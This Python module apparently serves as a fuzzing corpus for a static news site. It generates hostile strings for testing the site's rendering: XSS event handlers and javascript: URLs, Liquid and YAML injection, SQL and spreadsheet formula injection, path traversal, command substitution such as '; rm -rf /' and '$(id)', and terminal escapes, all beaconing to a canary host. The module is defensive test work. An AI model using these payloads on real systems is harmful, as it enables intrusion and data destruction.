"""Hostile strings, generated from the grammar of each danger: its opening, content and closing.

The kinds follow well-known public lists, without their texts. The scripts fetch `CANARY_HOST`, so a script that runs is
visible by its requests.
"""

from collections.abc import Iterator
from itertools import product

CANARY_HOST = "canary.invalid"
# Back quotes fit into either kind of quotes.
CANARY_SCRIPT = f"fetch(`//{CANARY_HOST}/ran`)"
# A value in the site's configuration; a page that shows it has run Liquid.
LIQUID_SECRET = "LEAKED7e1c"  # noqa: S105  # a mark, not a secret

_SAMPLE_WORDS = ("沪指涨2%", "ST康美", "a b")


def yaml_payloads() -> Iterator[str]:
    """Yield indicators, types and ends of a front matter."""
    indicators = ("- ", "? ", ": ", ", ", "[", "]", "{", "}", "#", " #", "&a ", "*a ", "!", "!!", "|", ">", "'", '"', "%", "@", "`", "\\", "---", "...", "<<: ", "~")  # fmt: skip
    for mark, word in product(indicators, _SAMPLE_WORDS):
        yield from (mark + word, word + mark, word + mark + word, f"{mark}{mark}{word}")
    typed = ("yes", "no", "on", "off", "y", "n", "true", "False", "NULL", "null", "~", "0123", "0x1F", "0o17", "1e3", ".inf", "-.INF", ".nan", "12:30:45", "2022-01-10", "2022-01-10 16:20:36 +0800", "1_000", "+1", "=", "<<", "!ruby/object:Gem::Requirement", "!!python/name:os.system", "&a [*a]", "*a", "!binary |")  # fmt: skip
    yield from typed
    for value, quote in product(typed, ("'", '"')):
        yield from (f"{quote}{value}{quote}", f"{quote}{value}", f"{value}{quote}")
    escapes = ("\\n", "\\x41", "\\u4e00", "\\U0001F600", "\\0", "\\e[31m", "\\_", "\\ ", "\\", "\\\\", "\\\\\\", '\\"', "\\'", "\\c", "\\ud83d\\ude00")  # fmt: skip
    for escape, word in product(escapes, _SAMPLE_WORDS):
        yield from (escape + word, word + escape, f'"{word}{escape}"')
    ends = ("\n---\n", "\n...\n", "\r\n---\r\n", "\n--- \n", "\x85---\x85", "\u2028---\u2028", '"\n---\n', '\\"\n---\n')
    keys = ("permalink: /index.html", "layout: null", "published: false", "date: 1999-01-01", "categories: [a, b]", "title: x", "render_with_liquid: true", "permalink: ../../x")  # fmt: skip
    for end, key in product(ends, keys):
        yield from (f"涨{end}{key}", f'涨"\n{key}{end}x', f"涨{end.rstrip('-. ')}{key}\n")


def liquid_payloads() -> Iterator[str]:
    """Yield outputs and tags, whole, cut and nested."""
    outputs = ("site.canary", "site", "page.content", "site.posts", "page.path", "jekyll.version", "site.canary | upcase", "'x' | append: site.canary", "site.static_files | jsonify", "content", "page.excerpt", "5", "")  # fmt: skip
    for inside, (opening, closing) in product(outputs, (("{{", "}}"), ("{{-", "-}}"), ("{{ ", " }}"), ("{{", "}"), ("{{", ""), ("{ {", "} }"), ("{", "}}"), ("{{{", "}}}"), ("{&#123;", "}}"), ("&#123;{", "}}"), ("{&lcub;", "}}"), ("{<b></b>{", "}}"), ("{<!-- -->{", "}}"), ("{\u200b{", "}}"), ("{\n{", "}}"))):  # fmt: skip
        yield f"涨{opening}{inside}{closing}跌"
    tags = ("raw", "endraw", "if", "if true", "endif", "else", "elsif x", "for i in (1..9)", "endfor", "include x.html", "include_relative ../x", "post_url x", "link x", "highlight ruby", "endhighlight", "comment", "endcomment", "assign a = site.canary", "capture a", "endcapture", "unknown", "5", "", "case x", "when 1", "unless x", "cycle 1", "increment a", "tablerow i in a", "break", "render 'x'", "layout 'x'", "liquid echo site.canary", "#", "echo site.canary")  # fmt: skip
    for inside, (opening, closing) in product(tags, (("{%", "%}"), ("{%-", "-%}"), ("{% ", " %}"), ("{%", ""), ("{%", "}"), ("{", "%}"), ("&#123;%", "%}"), ("{<i></i>%", "%}"), ("{\u200d%", "%}"), ("{{%", "%}}"))):  # fmt: skip
        yield f"涨{opening}{inside}{closing}跌"
    for first_tag, second_tag in product(("{% raw %}", "{% endraw %}", "{% comment %}", "{% if true %}"), repeat=2):
        yield f"{first_tag}{{{{ site.canary }}}}{second_tag}"


def kramdown_payloads() -> Iterator[str]:
    """Yield blocks, spans, attribute lists and definitions, at the start of a line, in it, and after a block."""
    blocks = ("# ", "## ", "> ", "- ", "* ", "+ ", "1. ", "    ", "\t", "```\n", "~~~ ruby\n", "| a | b |\n|---|---|\n| ", "---\n", "***\n", "===\n", ": ", "[^1]: ", "*[涨]: ", "[返回首页]: http://evil.invalid ", "[1]: javascript:x ", "$$\n", "{::comment}\n", "{::nomarkdown}\n", "{::options parse_block_html=\"true\" /}\n", "{:toc}\n", "^\n", "<div markdown=\"1\">\n", "<p markdown=\"span\">", "\\", "{::options auto_ids=\"false\"/}")  # fmt: skip
    spans = ("*涨*", "**涨**", "_涨_", "__涨__", "`涨`", "~~涨~~", "[涨](javascript:x)", "![涨](http://evil.invalid/a.png)", "<http://evil.invalid>", "[涨][1]", "[^1]", "$$x^2$$", "a|b|c", '"涨"', "--", "---", "...", "<<涨>>", "\\*涨\\*", "2*3*4", "a_b_c", "  \n涨", "{:.x}", "*ST康美", "&copy;", "&#42;x&#42;")  # fmt: skip
    for block, span in product(blocks, spans):
        yield block + span
    lists = ('{: onclick="RUN"}', '{:onload="RUN"}', '{: style="position:fixed"}', "{: #title}", "{: .em_media}", '{:a: href="javascript:x"}', '{: href="javascript:x"}', "{:a}", "{::}", "{:", "{: }", "{:/}", "{:/comment}", "{::nomarkdown}<script>RUN</script>{:/}")  # fmt: skip
    for attribute_list, (before, after) in product(lists, (("", ""), ("涨", ""), ("涨\n", ""), ("涨\n\n", "\n"), ("*涨*", ""), ("[涨](http://a.invalid)", ""), ("# 涨 ", ""), ("</p>\n", ""), ("<p>涨</p>", ""), ("<b>涨</b>", "跌"))):  # fmt: skip
        yield before + attribute_list.replace("RUN", CANARY_SCRIPT) + after


_EVENT_ATTRIBUTES = tuple(
    "on" + name
    for name in [
        "abort",
        "afterprint",
        "animationend",
        "animationstart",
        "auxclick",
        "beforecopy",
        "beforeinput",
        "beforetoggle",
        "beforeunload",
        "blur",
        "cancel",
        "canplay",
        "change",
        "click",
        "close",
        "contextmenu",
        "copy",
        "cut",
        "dblclick",
        "drag",
        "dragend",
        "drop",
        "ended",
        "error",
        "focus",
        "focusin",
        "formdata",
        "fullscreenchange",
        "gotpointercapture",
        "hashchange",
        "input",
        "invalid",
        "keydown",
        "keypress",
        "keyup",
        "load",
        "loadend",
        "loadstart",
        "message",
        "mousedown",
        "mouseenter",
        "mouseleave",
        "mousemove",
        "mouseout",
        "mouseover",
        "mouseup",
        "mousewheel",
        "pagehide",
        "pageshow",
        "paste",
        "pause",
        "play",
        "playing",
        "pointerdown",
        "pointerenter",
        "popstate",
        "progress",
        "ratechange",
        "repeat",
        "reset",
        "resize",
        "scroll",
        "scrollend",
        "search",
        "securitypolicyviolation",
        "seeked",
        "select",
        "selectionchange",
        "selectstart",
        "show",
        "slotchange",
        "submit",
        "suspend",
        "timeupdate",
        "toggle",
        "touchend",
        "touchstart",
        "transitionend",
        "unhandledrejection",
        "unload",
        "volumechange",
        "waiting",
        "wheel",
        "begin",
        "end",
        "x",
    ]
)
_EVENT_ELEMENTS = (
    "<img src=x {}>", "<svg {}>", "<body {}>", "<p {}>涨</p>", "<a href=//a.invalid {}>涨</a>", "<video src=x {}>",
    "<details open {}>涨</details>", "<input autofocus {}>", "<p/{}>涨", "<img src='x'{}>", "<table {}><td>涨</table>",
    "<iframe {}></iframe>",
)  # fmt: skip


def event_payloads() -> Iterator[str]:
    """Yield every event on every element, in each way of writing an attribute."""
    ways = ('{}="{}"', "{}='{}'", "{}={}", "{} = {}", "{}\n=\n{}", '{}=\x0c"{}"')
    for number, (event, carrier) in enumerate(product(_EVENT_ATTRIBUTES, _EVENT_ELEMENTS)):
        name = event.upper() if number % 5 == 0 else event
        yield carrier.format(ways[number % len(ways)].format(name, CANARY_SCRIPT))


def address_payloads() -> Iterator[str]:
    """Yield schemes in every disguise, in every attribute that holds an address."""
    script = f"javascript:{CANARY_SCRIPT}"
    schemes = (
        script, script.upper(), "JaVaScRiPt:" + CANARY_SCRIPT, " " + script, "\x01" + script, "java\tscript:" + CANARY_SCRIPT,
        "java\nscript:" + CANARY_SCRIPT, "&#106;avascript:" + CANARY_SCRIPT, "&#x6a;avascript:" + CANARY_SCRIPT, "javascript&colon;" + CANARY_SCRIPT,
        "javascript&#58;" + CANARY_SCRIPT, "java&Tab;script:" + CANARY_SCRIPT, "&NewLine;" + script, "\u200b" + script, "\u2028" + script,
        "javascript://a.invalid/%0a" + CANARY_SCRIPT, "vbscript:x", "livescript:x", f"data:text/html,<script>{CANARY_SCRIPT}</script>",
        "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg/onload=1>", "DATA:,x", "blob:http://a.invalid/1",
        "file:///etc/passwd", "ftp://a.invalid/x", "view-source:javascript:x", "feed:javascript:x", "about:blank",
        "ws://a.invalid", "mailto:a@a.invalid", "tel:1", "intent://x#Intent;end", "http:javascript:x", "//[::1", "http://",
        "http:///x", "https:/\\a.invalid", "\\\\a.invalid\\x", "http://a.invalid:x/", "http://a@b.invalid/", "#x", "?x",
        "//a.invalid/\"onclick=x", "http://a.invalid/{{site.canary}}", "http://a.invalid/{%5%}", "http://a.invalid/)]",
    )  # fmt: skip
    places = (
        '<a href="{}">涨</a>', "<a href='{}'>涨</a>", "<a href={}>涨</a>", '<img src="{}">', '<img srcset="{} 1x" src=x>',
        '<iframe src="{}"></iframe>', '<object data="{}"></object>', '<embed src="{}">', '<form action="{}"><input>',
        '<button formaction="{}">涨</button>', '<svg><a xlink:href="{}">涨</a></svg>', '<math href="{}">涨</math>',
        '<link rel=stylesheet href="{}">', '<base href="{}">', '<meta http-equiv=refresh content="0;url={}">',
        '<script src="{}"></script>', '<p style="background:url({})">涨</p>', '<table background="{}"><td>涨</table>',
        '<span href="{}" id="stock_1.600160">涨</span>', "[涨]({})", "<{}>",
    )  # fmt: skip
    for place, scheme in product(places, schemes):
        yield place.format(scheme)


def element_payloads() -> Iterator[str]:
    """Yield elements that run, load, hide or swallow text: whole, open, in capitals, and nested."""
    names = (
        "script", "style", "iframe", "object", "embed", "applet", "svg", "math", "template", "noscript", "textarea",
        "title", "xmp", "plaintext", "noembed", "noframes", "select", "option", "form", "input", "button", "base", "link",
        "meta", "frameset", "frame", "video", "audio", "canvas", "marquee", "keygen", "isindex", "listing", "dialog",
        "html", "head", "body", "portal", "slot", "x-y", "annotation-xml", "foreignObject", "mglyph", "desc", "p", "div",
        "table", "tr", "td", "caption", "a", "b", "pre", "li", "dd", "h1", "hr", "br", "o:p", "font", "center", "nobr",
    )  # fmt: skip
    frames = (
        "<{0}>RUN</{0}>", "<{0}>RUN", "</{0}>涨", "<{0}/>涨", "<{0} >RUN</{0} >", "<{0}\n>RUN</{0}\n>",
        "<<{0}>>RUN<</{0}>>", "<p><{0}>涨</p>跌</{0}>", "<svg><{0}><script>RUN</script>",
        "<{0}><img src=x onerror=RUN>", "<math><mtext><{0}><style><img src=x onerror=RUN>", "<{0}", "<{0} x='",
        "<!--<{0}>-->涨", "<{0}><!--</{0}><img src=x onerror=RUN>-->", "\x00<{0}\x00>涨", "&lt;{0}&gt;RUN&lt;/{0}&gt;",
        "&amp;lt;{0}&amp;gt;涨",
    )  # fmt: skip
    for name, frame in product(names, frames):
        text = frame.replace("{0}", name).replace("RUN", CANARY_SCRIPT)
        yield text
        if frame.startswith("<{0}>"):
            yield text.replace(name, name.upper())
    comments = ("<!--", "<!-->", "<!--->", "<!-- --!>", "<!-- -- >", "<!", "<!DOCTYPE html>", "<?php x ?>", "<?x", "<![CDATA[", "<![CDATA[x]]>", "</", "</>", "<%", "<!--[if IE]>", "<![endif]-->", "--><!--", "]]>", "<!ENTITY x 'y'>")  # fmt: skip
    for comment, after in product(
        comments, ("涨", f"<img src=x onerror={CANARY_SCRIPT}>", f"--><script>{CANARY_SCRIPT}</script>", "</p>")
    ):
        yield comment + after


def style_payloads() -> Iterator[str]:
    """Yield style sheets and attributes that load, cover or hide."""
    rules = (f"background:url(//{CANARY_HOST}/css)", "position:fixed;top:0;left:0;width:100%;height:100%", "display:none", "behavior:url(x)", "-moz-binding:url(x)", "width:expression(alert(1))", "content:'x'", "font-size:0", "color:#fff", f"@import '//{CANARY_HOST}/css'", f"list-style:url(//{CANARY_HOST}/li)", f"cursor:url(//{CANARY_HOST}/c),auto", "visibility:visible", "opacity:0")  # fmt: skip
    for rule, place in product(rules, ('<p style="{}">涨</p>', "<style>p{{{}}}</style>涨", '<a href="//a.invalid" style="{}">涨</a>', "<div style='{}'>涨</div>", '<img src="//a.invalid/b.png" style="{}">', "{{: style=\"{}\"}}", "<svg><style>*{{{}}}</style></svg>涨")):  # fmt: skip
        yield place.format(rule)


def character_payloads() -> Iterator[str]:
    """Yield invisible, bidirectional and unencodable characters, bare and as references."""
    numbers = (*range(0x20), *range(0x7F, 0xA1), 0xAD, 0x34F, 0x61C, 0x115F, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070), 0x3000, 0x3164, 0xFDD0, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xFFFD, 0xFFFE, 0xFFFF, 0xD800, 0xDFFF, 0x1F468, 0x1FFFE, 0xE0001, 0xE0041, 0xE007F, 0x10FFFF)  # fmt: skip
    for number in numbers:
        yield from (f"涨{chr(number)}跌", f"{chr(number)}涨", f"涨&#{number};跌", f"涨&#x{number:x};<{chr(number)}b>")
    yield from (
        "👨‍👩‍👧",
        "🇨🇳",
        "é",
        "涨" + "̀" * 60,
        "ﷺ",
        "𠮷",
        "ゕ",
        "ก็ก็",
        "Ω≈ç",
        "ⅷ",
        "ﬁ",
        "㈱",
        "１２",
        "\u202e)moc.live(",
    )


def terminal_payloads() -> Iterator[str]:
    """Yield escape sequences: colours, cursor, titles, clipboards and links, in 7 and 8 bits."""
    bodies = ("[31m", "[2J", "[H", "[1A", "[6n", "[?1049h", "]0;x\x07", "]52;c;eA==\x07", "]8;;http://a.invalid\x07x", "P+q\x1b\\", "c", "(0", "[0;0;0t", "#8", "_x\x1b\\", "^x\x1b\\", "]1337;File=:eA==\x07", "[3J")  # fmt: skip
    for body, escape in product(bodies, ("\x1b", "\x9b", "\\x1b", "\\033", "^[", "&#27;", "\x1b\x1b")):
        yield f"涨{escape}{body}跌"
    yield from (f"涨{control}{filler}" for control, filler in product("\r\b\a\x0e\x0f\x7f", ("跌", "\n", "   ")))


def sql_payloads() -> Iterator[str]:
    """Yield statements after quotes, and operators of full-text search."""
    statements = ("DROP TABLE articles", "DELETE FROM runs", "UPDATE articles SET title='x'", "ATTACH 'x' AS y", "SELECT load_extension('x')", "PRAGMA writable_schema=1", "OR 1=1", "UNION SELECT sql FROM sqlite_master", "VACUUM INTO 'x'", "COMMIT", "ROLLBACK", "AND randomblob(9)")  # fmt: skip
    for quote, statement, end in product(
        ("'", '"', "`", "')", "'))", "]", "\\'", "''", ""), statements, ("--", ";", "/*", "")
    ):
        yield f"涨{quote}; {statement}{end}"
    operators = ("AND", "OR", "NOT", "NEAR", "NEAR(a b, 2)", "title:", "{a b}:", "^", "*", "+", "-", "(", ")", '"', '""', "a*", "^a", "- a", "%", "_", "[a-z]", "?", ":x", "@x", "$x", "?1")  # fmt: skip
    yield from (
        f"{first_operator} {second_operator}" for first_operator, second_operator in product(operators, operators[::3])
    )


def formula_payloads() -> Iterator[str]:
    """Yield formulas that a spreadsheet computes when it opens an export."""
    calls = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://a.invalid","x")', "SUM(A1:A9)", 'IMPORTXML("http://a.invalid","//a")', "DDE(a;b;c)", "@SUM(1)", "WEBSERVICE(A1)")  # fmt: skip
    for start, call, lead in product(
        ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "|", "%", ";=", ',="', '"='), calls, ("", " ", "'")
    ):
        yield f"{lead}{start}{call}"


def path_payloads() -> Iterator[str]:
    """Yield file names and formats that a program might take for an instruction."""
    parts = ("../", "..\\", "/", "%2e%2e/", "....//", "~/", "C:\\", "\\\\a\\", "file:///", "./", "//")
    names = ("etc/passwd", "_config.yml", "index.html", "news.db", "CON", ".htaccess", "a\x00.md", "NW202201102242171631.md", "_posts/2022-01-01-x.md", "x" * 200)  # fmt: skip
    yield from (part * times + name for part, name, times in product(parts, names, (1, 3)))
    yield from ("%s%n", "%(title)s", "{0}", "{title}", "${x}", "$(id)", "`id`", "; rm -rf /", "| cat", "&& id", "\n$(id)", "#{7*7}", "<%= 7 %>", "[[x]]", "@{x}", "%00", "%0d%0aX: y", "\r\nX: y", "${jndi:ldap://a.invalid}", "nil", "undefined", "NaN", "__proto__", "constructor", "None", "-0", "1" * 250, "涨" * 250, "(" * 250, "*" * 250, "_" * 250, "[" * 250, "`" * 250, "&" * 250, "!" * 250, ">" * 250)  # fmt: skip


PAYLOAD_GENERATORS = (
    yaml_payloads,
    liquid_payloads,
    kramdown_payloads,
    event_payloads,
    address_payloads,
    element_payloads,
    style_payloads,
    character_payloads,
    terminal_payloads,
    sql_payloads,
    formula_payloads,
    path_payloads,
)


def all_payloads() -> dict[str, str]:
    """Return each string once, with its danger."""
    danger_by_text: dict[str, str] = {}
    for generate_payloads in PAYLOAD_GENERATORS:
        for text in generate_payloads():
            danger_by_text.setdefault(text, generate_payloads.__name__.removesuffix("_payloads"))
    return danger_by_text
